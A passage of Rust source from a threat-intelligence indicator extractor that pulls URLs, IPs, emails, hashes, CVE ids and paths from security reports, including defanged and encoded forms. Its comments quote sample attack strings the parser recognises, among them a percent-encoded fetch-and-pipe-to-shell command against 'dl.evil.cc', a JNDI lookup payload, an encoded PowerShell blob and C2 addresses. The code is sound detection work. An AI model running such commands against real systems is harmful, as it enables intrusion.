        // after a `:` or `=` label; ssdeep needs two colons.
        if (digit || alpha)
            && (colon || has(F_EQ) || (hex_only && matches!(rb.len(), 32 | 40 | 64 | 128)))
        {
            if let Some(m) = self.hash(&ctx, hex_only) {
                return Some(m);
            }
        }
        if colon {
            if let Some(m) = self.colon_kinds(&ctx) {
                return Some(m);
            }
        }
        if slash && digit {
            if let Some(m) = self.slash_kinds(&ctx) {
                return Some(m);
            }
        }
        if dot {
            if let Some(m) = self.dotted(&ctx) {
                return Some(m);
            }
        }
        // `C2:45.95.169.104`, `outside:193.42.33.14/4444`, `host:evil[.]com`:
        // when the whole piece is nothing, the value after a `word:` label
        // written without a space.
        if colon && !url_like && !at && has(F_DOT | F_BRACKET) {
            return self.after_colon_label(text, start, end);
        }
        // `connect('45.61.137.18')`, `@('45.61.137.18'`: the first argument
        // of a call, a quoted literal or a number.
        if bracket && (has(F_QUOTE) || digit) {
            return self.call_argument(text, start, end);
        }
        None
    }

    /// The match of the piece `text[start..end]` joined with its
    /// continuation on the next line ([`Wrap`]), when it runs over the
    /// line break; its span covers both parts and the break between them.
    #[inline(never)]
    fn joined_piece(&self, text: &str, start: usize, end: usize, wrap: &Wrap) -> Option<Match> {
        let Wrap { cs, ce, after_path } = *wrap;
        if after_path {
            let own = self.piece(text, cs, ce, None);
            if own.is_some_and(|m| {
                !matches!(m.kind(), IndicatorKind::FileName | IndicatorKind::FilePath)
            }) {
                return None;
            }
        }
        let line_start = text.get(..start)?.rfind('\n').map_or(0, |p| p + 1);
        let mut joined = String::with_capacity(ce - cs + end - line_start);
        joined.push_str(text.get(line_start..end)?);
        let brk = joined.len();
        joined.push_str(text.get(cs..ce)?);
        let m = self.piece(&joined, start - line_start, joined.len(), None)?;
        if !(m.start < brk && m.end > brk) {
            return None;
        }
        let gap = cs - end;
        let map = |p: usize| if p <= brk { p + line_start } else { p + line_start + gap };
        Some(Match { start: map(m.start), end: map(m.end), ..m })
    }

    /// The CVE id a rule's reference gives without its prefix
    /// (`reference:cve,2023-46604`): the digits at `text[start..end]`,
    /// the span from the `cve` key.
    #[inline(never)]
    fn rule_cve(&self, text: &str, start: usize, end: usize) -> Option<Match> {
        let digits = text.get(start..end)?.trim_end_matches([';', ',', ')', '.']);
        let cve: Cve = format!("CVE-{digits}").parse().ok()?;
        let s = start.checked_sub(4)?;
        let ctx = Ctx {
            text,
            start: s,
            end: start + digits.len(),
            raw: text.get(s..start + digits.len())?,
            flags: 0,
            refanged: std::cell::OnceCell::new(),
        };
        self.make(&ctx, 0, ctx.raw.len(), Indicator::Cve(cve), false)
    }

    /// The link in the quoted-printable segment `text[start..end]`, read
    /// as the body decodes: `=XX` escapes decoded, a soft line break (`=`
    /// at the line's end) joined with the next line's first word, up to
    /// eight lines. Its span covers what it was written as; `defanged` is
    /// true (the text does not show the value as it is).
    #[inline(never)]
    fn quoted_printable(&self, text: &str, start: usize, end: usize) -> Option<Match> {
        let b = text.as_bytes();
        let mut dec: Vec<u8> = Vec::with_capacity(end - start + 64);
        // For each decoded byte, where it was written and in how many bytes.
        let mut src: Vec<(usize, u8)> = Vec::with_capacity(end - start + 64);
        let (mut i, mut seg_end) = (start, end);
        for _ in 0..8 {
            let mut soft = false;
            while i < seg_end {
                let c = *b.get(i)?;
                if c == b'=' {
                    if i + 1 == seg_end && matches!(b.get(i + 1), Some(b'\n' | b'\r')) {
                        soft = true;
                        i += 1;
                        break;
                    }
                    let hex = b.get(i + 1..i + 3).and_then(|h| std::str::from_utf8(h).ok());
                    if let Some(v) = hex.and_then(|h| u8::from_str_radix(h, 16).ok()) {
                        dec.push(v);
                        src.push((i, 3));
                        i += 3;
                        continue;
                    }
                }
                dec.push(c);
                src.push((i, 1));
                i += 1;
            }
            if !soft {
                break;
            }
            // The next line's first word.
            let nl = if b.get(i) == Some(&b'\r') { i + 2 } else { i + 1 };
            let word = b.get(nl..)?.iter().take_while(|c| !c.is_ascii_whitespace()).count();
            if word == 0 {
                break;
            }
            (i, seg_end) = (nl, nl + word);
        }
        let decoded = String::from_utf8(dec).ok()?;
        let m = self.piece(&decoded, 0, decoded.len(), None)?;
        let &(first, _) = src.get(m.start)?;
        let &(last, len) = src.get(m.end.checked_sub(1)?)?;
        // Only a link whose reading needed the decoding.
        let raw = text.get(first..last + usize::from(len))?;
        if !raw.contains('=') || m.kind() != IndicatorKind::Url {
            return None;
        }
        Some(Match { start: first, end: last + usize::from(len), defanged: true, ..m })
    }

    /// The match of a defanged name `text[start..end]` at the start of a
    /// line (after its indentation) joined with the word that ended the line
    /// before at a hyphen (`telemetry-` / `relay[.]org`), when the word
    /// starts at or after `floor`; its span covers both parts. Out of line:
    /// few pieces start a line with a marker.
    #[inline(never)]
    fn joined_before(&self, text: &str, start: usize, end: usize, floor: usize) -> Option<Match> {
        let bytes = text.as_bytes();
        let indent = bytes.get(..start)?.iter().rev().take_while(|&&b| b == b' ' || b == b'\t');
        let nl = start.checked_sub(indent.count() + 1)?;
        if bytes.get(nl) != Some(&b'\n') {
            return None;
        }
        let we = if nl > 0 && bytes.get(nl - 1) == Some(&b'\r') { nl - 1 } else { nl };
        if we < 2 || bytes.get(we - 1) != Some(&b'-') {
            return None;
        }
        let word = bytes
            .get(..we)?
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
            .count();
        let ws = we - word;
        let defanged = bracket_markers(bytes.get(start..end)?).dot;
        if word < 3
            || ws < floor
            || !bytes.get(ws).is_some_and(u8::is_ascii_alphanumeric)
            || !(defanged || bytes.get(start..end)?.contains(&b'.'))
        {
            return None;
        }
        let m = self.joined_piece(text, ws, we, &Wrap { cs: start, ce: end, after_path: false })?;
        // A plain name joins only as a host (`data-` / `base.exe` may be
        // prose and a file).
        (defanged
            || matches!(
                m.kind(),
                IndicatorKind::Domain | IndicatorKind::Url | IndicatorKind::Email
            ))
        .then_some(m)
    }

    /// The hosts in `text` whose dots are written as words
    /// ([`spelled_dot_hosts`]), each as the match of its joined name when
    /// that is a whole domain or IPv4 address: span over the words,
    /// defanged. In text order. Out of line: most texts hold no ` dot `.
    #[inline(never)]
    fn spelled_hosts(&self, text: &str) -> Vec<Match> {
        spelled_dot_hosts(text.as_bytes())
            .into_iter()
            .filter_map(|h| {
                let m = self.piece(&h.name, 0, h.name.len(), None)?;
                let whole = (m.start, m.end) == (0, h.name.len());
                (whole && matches!(m.kind(), IndicatorKind::Domain | IndicatorKind::Ipv4))
                    .then_some(Match { start: h.start, end: h.end, defanged: true, ..m })
            })
            .collect()
    }

    /// The value of the piece `text[start..end]` when it is `key:value`
    /// ([`key_colon_end`]) and the value holds an indicator. Out of line:
    /// few pieces get here, and `piece` stays small.
    #[inline(never)]
    fn after_colon_label(&self, text: &str, start: usize, end: usize) -> Option<Match> {
        let c = key_colon_end(text.as_bytes().get(start..end)?)?;
        self.piece(text, start + c + 1, end, None)
    }

    /// The first argument of a call `name('value'…` or `name(1.2.3.4…`
    /// (also PowerShell's `@('value'`), judged as a piece of its own: the
    /// literal runs to its closing quote, a number to `)` or `,`. Out of
    /// line, as [`Extractor::after_colon_label`].
    #[inline(never)]
    fn call_argument(&self, text: &str, start: usize, end: usize) -> Option<Match> {
        let rb = text.as_bytes().get(start..end)?;
        let open = find_byte_from(rb, 0, b'(')?;
        let (from, close): (usize, &[u8]) = match rb.get(open + 1)? {
            b'\'' => (open + 2, b"'"),
            c if c.is_ascii_digit() => (open + 1, b"),"),
            _ => return None,
        };
        let name = rb.get(..open)?;
        if name.is_empty()
            || !name.iter().all(|c| {
                c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$' | b'.' | b'@' | b'-' | b':')
            })
        {
            return None;
        }
        let arg = rb.get(from..)?;
        let len = arg.iter().position(|c| close.contains(c)).unwrap_or(arg.len());
        if len == 0 {
            return None;
        }
        self.piece(text, start + from, start + from + len, None)
    }

    /// `text[start..end]` written in full-width forms (`ＣＶＥ－２０２３－４６６０４`,
    /// `１９２．０．２．１`, as Japanese text typed with the IME on has it) or
    /// with Unicode hyphens (`CVE‑2024‑3400` with U+2011, as word
    /// processors keep lines together): classified as its ASCII fold, with
    /// the span mapped back. `None` when the piece holds no such character
    /// or one that has no ASCII fold.
    fn full_width_piece(&self, text: &str, start: usize, end: usize) -> Option<Match> {
        let raw = text.get(start..end)?;
        if !raw.chars().any(|c| !c.is_ascii() && ascii_fold(c).is_some()) {
            return None;
        }
        let mut folded = String::with_capacity(raw.len());
        // `at[i]`: where in `text` the byte `i` of `folded` came from.
        let mut at = Vec::with_capacity(raw.len() + 1);
        for (off, c) in raw.char_indices() {
            let a = ascii_fold(c)?;
            folded.push(a);
            at.push(start + off);
        }
        at.push(end);
        let m = self.piece(&folded, 0, folded.len(), None)?;
        let (s, e) = (*at.get(m.start)?, *at.get(m.end)?);
        Some(Match { start: s, end: e, ..m })
    }

    /// Emits `m` (offsets shifted by `base`) and, when asked for, the ids
    /// nested in it; returns how many matches went out. Out of line: one
    /// call a match, and the scan's loop stays small.
    #[inline(never)]
    fn report<F: FnMut(Match)>(
        &self,
        text: &str,
        base: usize,
        mut m: Match,
        emit: &mut F,
        walk: &mut crate::cue::ListWalk,
    ) -> usize {
        // A registrar's, registry's or hoster's value in a WHOIS record.
        if m.disposition == Disposition::Indicator
            && crate::cue::provider_field(text, m.start, &m.indicator)
        {
            m.disposition = Disposition::Benign;
        }
        // A configured server's own names (`server_name shop.example;`).
        if m.disposition == Disposition::Indicator
            && matches!(m.kind(), IndicatorKind::Domain | IndicatorKind::Email)
            && crate::cue::config_own_name(text, m.start)
        {
            m.disposition = Disposition::Benign;
        }
        // A phishing mail's recipients and their own mail servers.
        if m.disposition == Disposition::Indicator
            && matches!(m.kind(), IndicatorKind::Domain | IndicatorKind::Email)
            && crate::cue::mail_recipient_side(text, m.start, &m.indicator, walk)
        {
            m.disposition = Disposition::Benign;
        }
        // The words next to it may say that an indicator is context.
        if m.disposition == Disposition::Indicator
            && crate::cue::may_turn(text, m.start, m.end, &m.indicator)
        {
            if let Some(d) = crate::cue::refine(text, m.start, m.end, &m.indicator) {
                m.disposition = d;
            }
        }
        // A link in a list of references (under `References`, `【参考】`; a
        // rule's `reference:url,`), unless a raw address or a file on a
        // service where anyone publishes.
        if m.disposition == Disposition::Indicator
            && matches!(m.indicator, Indicator::Url(_) | Indicator::Domain(_))
            && crate::cue::in_reference_list(text, m.start, walk)
            && match &m.indicator {
                Indicator::Url(u) => u.host().is_some_and(|h| {
                    !h.starts_with('[') && parse_ipv4(h).is_err() && !is_user_content(h, u.path())
                }),
                _ => true,
            }
        {
            m.disposition = Disposition::Reference;
        }
        let nested = if !self.nested {
            Vec::new()
        } else if m.kind() == IndicatorKind::Url {
            self.nested_ids(text, m.start, m.end)
        } else if m.kind() == IndicatorKind::FilePath {
            self.unc_host(text, m.start, m.end).into_iter().collect()
        } else {
            Vec::new()
        };
        emit(Match { start: m.start + base, end: m.end + base, ..m });
        let n = nested.len();
        for id in nested {
            emit(Match { start: id.start + base, end: id.end + base, ..id });
        }
        1 + n
    }

    /// The host of the UNC path at `text[start..end]` when it is an IPv4
    /// address or a domain (`\\45.61.137.90@80\share\doc.url`,
    /// `\\evil-webdav.com@SSL\DavWWWRoot\x.lnk`: a WebDAV server a lure
    /// reaches), as a match of its own inside the path's span. A machine's
    /// own name (`\\fileserver01\public`) is none.
    fn unc_host(&self, text: &str, start: usize, end: usize) -> Option<Match> {
        let raw = text.get(start..end)?;
        let rest = raw.strip_prefix("\\\\")?;
        let len = rest.bytes().position(|b| matches!(b, b'\\' | b'@' | b'/')).unwrap_or(rest.len());
        let host = rest.get(..len)?;
        let indicator = if let Ok(ip) = parse_ipv4(host) {
            Indicator::Ipv4(ip.into())
        } else {
            let d = Domain::parse_quiet(host)?;
            if has_two_labels(&d) && FILE_LIKE_TLDS.contains(&d.public_suffix()) {
                return None;
            }
            Indicator::Domain(d)
        };
        if !self.wants(indicator.kind()) {
            return None;
        }
        let disposition = disposition(&indicator);
        Some(Match {
            indicator,
            start: start + 2,
            end: start + 2 + len,
            defanged: false,
            disposition,
        })
    }

    /// CVE and ATT&CK ids in the path of the URL at `text[start..end]`
    /// (`https://nvd.nist.gov/vuln/detail/CVE-2024-30088`), as matches of
    /// their own inside the URL's span.
    fn nested_ids(&self, text: &str, start: usize, end: usize) -> Vec<Match> {
        let raw = text.get(start..end).unwrap_or_default();
        let rb = raw.as_bytes();
        let path_from = find_ci(rb, b"://").map_or(0, |p| p + 3);
        let mut out = Vec::new();
        let mut i = path_from;
        while i < rb.len() {
            let at_boundary = !rb.get(i.wrapping_sub(1)).is_some_and(u8::is_ascii_alphanumeric);
            let b = rb.get(i).copied().unwrap_or(0);
            if at_boundary && matches!(b, b'C' | b'c' | b'T' | b't') {
                let len = rb
                    .get(i..)
                    .unwrap_or_default()
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.'))
                    .count();
                let mut word = raw.get(i..i + len).unwrap_or_default();
                word = word.trim_end_matches(['.', '-']);
                let parsed = if b.eq_ignore_ascii_case(&b'c') {
                    word.parse::<Cve>().ok().map(Indicator::Cve)
                } else {
                    word.parse::<AttackTechnique>().ok().map(Indicator::AttackTechnique)
                };
                if let Some(ind) = parsed.filter(|ind| self.wants(ind.kind())) {
                    let disposition = disposition(&ind);
                    out.push(Match {
                        indicator: ind,
                        start: start + i,
                        end: start + i + word.len(),
                        defanged: false,
                        disposition,
                    });
                }
                i += len.max(1);
            } else {
                i += 1;
            }
        }
        out
    }

    fn make(
        &self,
        ctx: &Ctx<'_>,
        s: usize,
        e: usize,
        indicator: Indicator,
        defanged: bool,
    ) -> Option<Match> {
        self.make_with(ctx, s, e, indicator, defanged, disposition)
    }

    /// [`Extractor::make`] with the disposition rule given.
    fn make_with(
        &self,
        ctx: &Ctx<'_>,
        s: usize,
        e: usize,
        indicator: Indicator,
        defanged: bool,
        rule: impl FnOnce(&Indicator) -> Disposition,
    ) -> Option<Match> {
        if !self.wants(indicator.kind()) {
            return None;
        }
        let mut disposition = rule(&indicator);
        // A link its author defanged by hand is one they call malicious: a
        // path on a well-known service (`hxxp://twitter[.]com/<account>`,
        // `hxxps://www.github[.]com/<account>/<repo>`, a compromised
        // government page) is then the attacker's, whatever the host's
        // reputation. A host's bare root (`hxxps://www.google[.]com/`,
        // a connectivity check) keeps its disposition.
        if defanged
            && matches!(disposition, Disposition::Benign | Disposition::Reference)
            && matches!(&indicator, Indicator::Url(u) if !matches!(u.path(), "" | "/"))
        {
            disposition = Disposition::Indicator;
        }
        // `commit 402df1ba…`: a Git commit id, not a file's digest.
        if matches!(indicator, Indicator::Sha1(_))
            && follows_word(ctx.text, ctx.start + s, b"commit")
        {
            disposition = Disposition::Benign;
        }
        Some(Match { indicator, start: ctx.start + s, end: ctx.start + e, defanged, disposition })
    }

    fn url(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        // Find the scheme: letters (and defang characters) before `://`,
        // `[://]`, `[:]//` or `:\\`.
        // `[://]` holds `://`: the bracketed form is the separator
        // (`hxxp[://]host`).
        let (sep, sep_len) = match find_ci(rb, b"://") {
            Some(p) if p > 0 && rb.get(p - 1) == Some(&b'[') && rb.get(p + 3) == Some(&b']') => {
                (p - 1, 5)
            }
            Some(p) => (p, 3),
            None => [&b"[:]//"[..], b":\\\\", b":\\/\\/", "\u{FF1A}//".as_bytes()]
                .iter()
                .find_map(|p| find_ci(rb, p).map(|at| (at, p.len())))?,
        };
        let mut s = sep;
        while s > 0
            && rb.get(s - 1).is_some_and(|b| b.is_ascii_alphabetic() || *b == b'*' || *b == b'_')
        {
            s -= 1;
        }

        if s == sep {
            return None;
        }
        let mut e = rb.len();
        // A URL opened by a quote ends at the same quote:
        // `get('https://x.example/i/'+name)`.
        // One opened by a parenthesis (a Markdown link's target) ends at
        // the parenthesis that closes it: `(https://x.example/a)/[b](…)`.
        if let Some(&q) = ctx.text.as_bytes().get((ctx.start + s).wrapping_sub(1)) {
            if matches!(q, b'\'' | b'"' | b'`') {
                if let Some(close) = rb.get(sep..).and_then(|r| r.iter().position(|&c| c == q)) {
                    e = sep + close;
                }
            } else if q == b'(' {
                let mut depth = 0usize;
                let close = rb.get(sep..).unwrap_or_default().iter().position(|&c| {
                    match c {
                        b'(' => depth += 1,
                        b')' if depth == 0 => return true,
                        b')' => depth -= 1,
                        _ => {}
                    }
                    false
                });
                if let Some(close) = close {
                    e = sep + close;
                }
            }
        }
        // A `[` after the host that is no defang marker ends the URL: an
        // AsciiDoc link `https://host/page[label]` (a URL's path never
        // holds a bare `[`; an IPv6 host's bracket comes right after `://`).
        let host_start = sep + sep_len;
        let hosted = rb.get(host_start + 1..e).unwrap_or_default();
        let mut from = 0;
        while let Some(k) = find_byte_from(hosted, from, b'[') {
            if !crate::defang::starts_with_bracket_marker(hosted.get(k..).unwrap_or_default()) {
                e = host_start + 1 + k;
                break;
            }
            from = k + 1;
        }
        // `&quot;https://x.example/cfg.bin&quot;` in XML, `&lt;code&gt;
        // https://x.example/a&lt;/code&gt;` in escaped HTML: the entity of a
        // quote, an angle bracket or a space ends the URL.
        if let Some(amp) = find_byte_from(rb.get(..e).unwrap_or_default(), host_start, b'&') {
            if let Some(k) = ending_entity(rb.get(amp..e).unwrap_or_default()) {
                e = amp + k;
            }
        }
        // Trailing punctuation that closes prose (or a Markdown link), not
        // the URL: brackets count only when unbalanced within the URL.
        loop {
            let url_part = rb.get(s..e).unwrap_or_default();
            let drop = match rb.get(e.wrapping_sub(1)) {
                Some(b'.' | b',' | b';' | b':' | b'!' | b'?' | b'\'' | b'"') => true,
                Some(b')') => count(url_part, b'(') < count(url_part, b')'),
                Some(b']') => count(url_part, b'[') < count(url_part, b']'),
                // `${jndi:ldap://host:1389/a}`: the brace closes the lookup.
                Some(b'}') => count(url_part, b'{') < count(url_part, b'}'),
                _ => false,
            };
            if !drop || e <= sep + 3 {
                break;
            }
            e -= 1;
        }
        // `…/k.ps1?id=SRV&amp;t=17` (a link in XML or HTML): the piece
        // ended at the `;` of an escaped `&`, which is the link's; it runs
        // on past it, and its value has the `&` back.
        if e == rb.len() && rb.ends_with(b"&amp") {
            e = amp_continuation(ctx.text, ctx.start + e) - ctx.start;
        }
        // `…\\/\"` (JSON in a JSON string): the last backslash escapes the
        // quote that ends the string.
        if rb.get(..e).is_some_and(|r| r.ends_with(b"\\\\/\\"))
            && ctx.text.as_bytes().get(ctx.start + e) == Some(&b'"')
        {
            e -= 1;
        }
        let sub = ctx.text.get(ctx.start + s..ctx.start + e)?;
        // JSON escapes a slash as `\\/`: `https:\\/\\/host\\/api`; JSON in a
        // JSON string (a HAR's response text) escapes its backslash too.
        let unescaped;
        let sub = if find_seq(sub.as_bytes(), b":\\\\/\\\\/").is_some() {
            unescaped = sub.replace("\\\\/", "/");
            unescaped.as_str()
        } else if find_seq(sub.as_bytes(), b":\\/\\/").is_some() {
            unescaped = sub.replace("\\/", "/");
            unescaped.as_str()
        } else if e > rb.len() {
            unescaped = sub.replace("&amp;amp;", "&").replace("&amp;", "&");
            unescaped.as_str()
        } else {
            sub
        };
        let r = if may_need_refang(sub.as_bytes(), ctx.flags) {
            refang_text(sub)
        } else {
            crate::Refanged { text: std::borrow::Cow::Borrowed(sub), defanged: false }
        };
        let mut url: Url = r.text.parse().ok()?;
        let mut defanged = r.defanged;
        // A link a mail gateway rewrote: its destination, over the span of
        // the whole rewritten link.
        if let Some(inner) = gateway_destination(&r.text).and_then(|t| t.parse::<Url>().ok()) {
            url = inner;
            defanged = true;
        }
        // `'http://10.10.'` in a filter list: a prefix of addresses, which
        // WHATWG reads as the address 10.0.0.10. A numeric host is written
        // as a dotted quad, or as one number (`http://3232235777/`).
        if url.host().is_some_and(|h| h.starts_with(|c: char| c.is_ascii_digit()))
            && !numeric_host_as_written(&r.text)
        {
            return None;
        }
        // What the host decides (whether it names a host at all, and most
        // of the disposition), remembered per host.
        let facts = host_facts(url.host()?);
        if !facts.ok {
            return None;
        }
        self.make_with(ctx, s, e, Indicator::Url(url), defanged, |i| match i {
            Indicator::Url(u) => url_disposition_from(u, &facts),
            other => disposition(other),
        })
    }

    /// The host of `//host/path` when it is a domain with a public suffix.
    fn protocol_relative(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rest = ctx.raw.get(2..)?;
        let host_len = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let host = rest.get(..host_len)?;
        if host.is_empty() || !host.contains('.') {
            return None;
        }
        let d: Domain = host.parse().ok()?;
        if d.registrable() == d.public_suffix() {
            return None;
        }
        self.make(ctx, 2, 2 + host_len, Indicator::Domain(d), false)
    }

    fn email(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let r = ctx.refanged();
        let text = r.text.as_ref();
        let at = text.rfind('@')?;
        // RFC 5322 allows `/` in a local part; reports never use it, but a
        // certificate subject runs into one: `CN=11/emailAddress=11@qq.com`.
        let local = text.get(..at)?;
        let mut local_start = local
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || "!#$%&'*+=?^_`{|}~.-".contains(c)))
            .map(|p| p + 1)
            .unwrap_or(0);
        const FIELD: &[u8] = b"emailaddress=";
        if let Some(p) = find_ci(local.as_bytes().get(local_start..)?, FIELD) {
            local_start += p + FIELD.len();
        }
        // `users.csv:\nd.morimoto@…` in a JSON string: the `n` (or `t`,
        // `r`) after the backslash is the escape's, not the address's.
        // (A backslash after white space or a table's bar is no escape in
        // a string: `| \testrambo2@…`, `|\r0fl24@…` in a table.)
        let before_escape = match local_start {
            0 | 1 if ctx.raw.starts_with('\\') => {
                ctx.text.as_bytes().get(ctx.start.wrapping_sub(1))
            }
            0 | 1 => None,
            _ => local.as_bytes().get(local_start - 2),
        };
        if local_start > 0
            && local.as_bytes().get(local_start - 1) == Some(&b'\\')
            && before_escape.is_some_and(|c| !c.is_ascii_whitespace() && *c != b'|')
            && matches!(local.as_bytes().get(local_start), Some(b'n' | b't' | b'r'))
            && local_start + 1 < local.len()
        {
            local_start += 1;
        }
        // `@lantern_hunter@infosec.exchange`: a fediverse handle, no
        // mailbox; `Message-ID: <f3a9…@smtp.example.net>`: a message's id.
        if text.as_bytes().get(local_start.wrapping_sub(1)) == Some(&b'@')
            || in_message_id_header(ctx.text, ctx.start)
        {
            return None;
        }
        // Punctuation RFC 5322 allows that no real address starts with
        // (`user[email][]=a@b.example`: the value after a `=`).
        let candidate = text
            .get(local_start..)?
            .trim_start_matches(['.', '=', '\'', '`', '{', '}', '|', '~', '^']);
        // `ssh root@203.0.113.77`: a user at an address names the address.
        // (`scp x admin@91.215.85.3:/tmp`: the path after `:` is not.)
        if let Some(at_raw) = ctx
            .raw
            .rfind('@')
            .filter(|&a| ctx.raw.as_bytes().get(a + 1).is_some_and(u8::is_ascii_digit))
        {
            let after = ctx.raw.get(at_raw + 1..).unwrap_or_default();
            let host_raw =
                after.get(..after.find([':', '/']).unwrap_or(after.len())).unwrap_or_default();
            let host = refang_text(host_raw);
            if let Ok(ip) = parse_ipv4(&host.text) {
                let (s, e) = (at_raw + 1, at_raw + 1 + host_raw.len());
                return self.make(ctx, s, e, Indicator::Ipv4(ip.into()), host.defanged);
            }
        }
        // `header.i=@example.com`: a DKIM tag's value, the signing domain
        // alone, no mailbox.
        if candidate.get(..candidate.rfind('@')?).is_some_and(|l| l.ends_with('=')) {
            let at_raw = ctx.raw.rfind('@')?;
            let domain = text.get(at + 1..)?.parse::<Domain>().ok()?;
            return self.make(
                ctx,
                at_raw + 1,
                ctx.raw.len(),
                Indicator::Domain(domain),
                r.defanged,
            );
        }
        let email = Email::parse_quiet(candidate)?;
        // Spans: when refanging changed nothing, the sub-span is exact;
        // otherwise it starts where the local part is written as is
        // (`user[email][]=a@x.example&user[email][]=b@evil[.]com`: the
        // second address only), or the whole piece is the raw match.
        let (s, e) = if r.defanged {
            let local = candidate.get(..candidate.rfind('@').unwrap_or(0)).unwrap_or_default();
            // The local part as written, right before its `@` or marker.
            let from = if local.is_empty() {
                0
            } else {
                ctx.raw
                    .rmatch_indices(local)
                    .map(|(p, _)| p)
                    .find(|&p| {
                        let after = ctx.raw.get(p + local.len()..).unwrap_or_default();
                        let after = after.trim_start_matches(' ').as_bytes();
                        ["@", "[@]", "(@)", "{@}", "[at]", "(at)", "{at}"].iter().any(|m| {
                            after
                                .get(..m.len())
                                .is_some_and(|a| a.eq_ignore_ascii_case(m.as_bytes()))
                        })
                    })
                    .unwrap_or(0)
            };
            (from, ctx.raw.len())
        } else {
            (ctx.raw.len() - candidate.len(), ctx.raw.len())
        };
        self.make(ctx, s, e, Indicator::Email(email), r.defanged)
    }

    fn registry_or_windows_path(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let raw = ctx.raw;
        let is_reg = is_registry_start(raw);
        let is_win = !is_reg && windows_like(raw);
        if !is_reg && !is_win {
            return None;
        }
        // Paths may hold spaces: extend over following words while they
        // continue the path (the next word holds a backslash).
        let mut e = ctx.end;
        let bytes = ctx.text.as_bytes();
        // Look up to three words ahead (`Program Files (x86)\…`).
        'extend: loop {
            let mut probe = e;
            for _ in 0..3 {
                if bytes.get(probe) != Some(&b' ') {
                    break 'extend;
                }
                let next_start = probe + 1;
                let next_end = bytes
                    .get(next_start..)
                    .map(|r| r.iter().position(|&b| is_sep(b) || b >= 0x80).unwrap_or(r.len()))
                    .unwrap_or(0)
                    + next_start;
                let word = ctx.text.get(next_start..next_end).unwrap_or_default();
                // A word that starts a path of its own is the next path.
                if word.is_empty()
                    || word.len() > 128
                    || word.starts_with('\\')
                    || windows_like(word)
                    || is_registry_start(word)
                {
                    break 'extend;
                }
                probe = next_end;
                if word.contains('\\') {
                    e = next_end;
                    continue 'extend;
                }
            }
            break;
        }
        let (_, mut e) = trim(ctx.text, ctx.start, e);
        // A path opened by a quote ends at the same quote:
        // `(Get-ItemProperty 'HKLM:\…\chrome.exe').'(Default)'`.
        if let Some(&q) = bytes.get(ctx.start.wrapping_sub(1)).filter(|&&q| q == b'\'') {
            if let Some(close) =
                bytes.get(ctx.start..e).and_then(|r| r.iter().position(|&c| c == q))
            {
                e = ctx.start + close;
            }
        }
        let full = ctx.text.get(ctx.start..e)?;
        let indicator = if is_reg {
            Indicator::RegistryKey(full.parse().ok()?)
        } else {
            Indicator::FilePath(full.parse().ok()?)
        };
        self.make(ctx, 0, e - ctx.start, indicator, false)
    }

    /// `/index.php?…vars[1][]=curl%20-s%20https%3A%2F%2Fdl.evil.cc%2Ft.sh%7Csh`:
    /// a URL percent-encoded in a request's path or query (the command an
    /// exploit sends) is what the request carries; its span is the encoded
    /// run, up to an escape of what ends a URL in a command (a space, `|`,
    /// `;`, a quote) or the query's next `&`. `defanged` is true: the text
    /// does not show the URL as it is.
    fn encoded_url(&self, ctx: &Ctx<'_>) -> Option<Match> {
        let rb = ctx.raw.as_bytes();
        let sep = find_ci(rb, b"%3a%2f%2f")?;
        let s = sep - rb.get(..sep)?.iter().rev().take_while(|b| b.is_ascii_alphabetic()).count();
        let scheme = ctx.raw.get(s..sep)?;
        if !URL_SCHEMES.iter().any(|k| k.eq_ignore_ascii_case(scheme)) {
            return None;
        }
        let mut e = sep + 9;
        while let Some(&b) = rb.get(e) {
            if matches!(b, b'&' | b'"' | b'\'' | b'<' | b'>' | b'+' | b'|' | b';' | b'`') {
                break;
            }
            if b == b'%' {
                let escaped = rb
                    .get(e + 1..e + 3)
                    .and_then(|h| std::str::from_utf8(h).ok())
                    .and_then(|h| u8::from_str_radix(h, 16).ok());
                if escaped.is_some_and(|c| {
                    c.is_ascii_whitespace()
                        || matches!(c, b'|' | b';' | b'"' | b'\'' | b'<' | b'>' | b'`')
                }) {
                    break;
                }
            }
            e += 1;
        }
        let encoded = ctx.raw.get(s..e)?;
        let decoded = percent_encoding::percent_decode_str(encoded).decode_utf8().ok()?;
        let url: Url = decoded.parse().ok()?;
        if !host_facts(url.host()?).ok {
            return None;
        }
        self.make(ctx, s, e, Indicator::Url(url), true)
    }

    /// A link in a Base64 blob (`-enc SQBFAFgA…`, a cloud instance's user
    /// data, `atob("aHR0cDovL…")`): the piece decodes (standard or
    /// URL-safe alphabet; UTF-8 or UTF-16LE text) to text that holds a
    /// URL. The first URL found in the decoded text, with the blob's span;
    /// `defanged` is true (it is not written as such). A blob in the
    /// decoded text is decoded in turn; each is three quarters of the one
    /// that held it, so this ends.
    fn base64_url(&self, ctx: &Ctx<'_>) -> Option<Match> {
        use base64::Engine as _;
        use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
        let rb = ctx.raw.as_bytes();
        let body = ctx.raw.trim_end_matches('=');
        // One pass: the alphabet (standard or URL-safe), a capital, and a
        // trace of `://`, which encodes to `Oi8v`, `ovL` or `6Ly` in the
        // three alignments as UTF-8, and holds `AC8` or `oAL` as UTF-16LE:
        // a blob with none of them holds no link, and is not decoded.
        let (mut std, mut url_safe, mut upper, mut trace) = (true, true, false, false);
        let bb = body.as_bytes();
        for (i, &b) in bb.iter().enumerate() {
            match b {
                b'A'..=b'Z' => upper = true,
                b'a'..=b'z' | b'0'..=b'9' => {}
                b'+' | b'/' => url_safe = false,
                b'-' | b'_' => std = false,
                _ => return None,
            }
            if i >= 2 {
                let w =
                    [bb.get(i - 2).copied().unwrap_or(0), bb.get(i - 1).copied().unwrap_or(0), b];
                trace |= matches!(&w, b"i8v" | b"ovL" | b"6Ly" | b"AC8" | b"oAL");
            }
        }
        if !(std || url_safe) || !upper || !trace || body.len() % 4 == 1 {
            return None;
        }
        let bytes = if std { STANDARD_NO_PAD.decode(body) } else { URL_SAFE_NO_PAD.decode(body) };
        let bytes = bytes.ok()?;
